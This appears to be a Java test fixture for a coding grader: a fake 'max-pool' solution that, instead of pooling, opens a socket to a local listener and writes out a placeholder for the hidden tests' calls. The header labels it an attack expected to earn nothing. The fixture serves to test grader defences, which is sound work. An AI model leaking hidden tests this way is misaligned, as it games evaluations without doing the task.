// attack: connects to a server on the grader's machine (here one the test listens with) to send out what it found
// exercise: max-pool
// base: master
// earns: 0
double[][] maxPool(double[][] x, int window, int stride) {
    try (java.net.Socket socket = new java.net.Socket("127.0.0.1", ${PORT})) {
        socket.getOutputStream().write("the hidden tests' calls".getBytes());
    } catch (java.io.IOException e) {
        throw new IllegalStateException("no network: " + e.getMessage());
    }
    throw new IllegalStateException("connected");
}
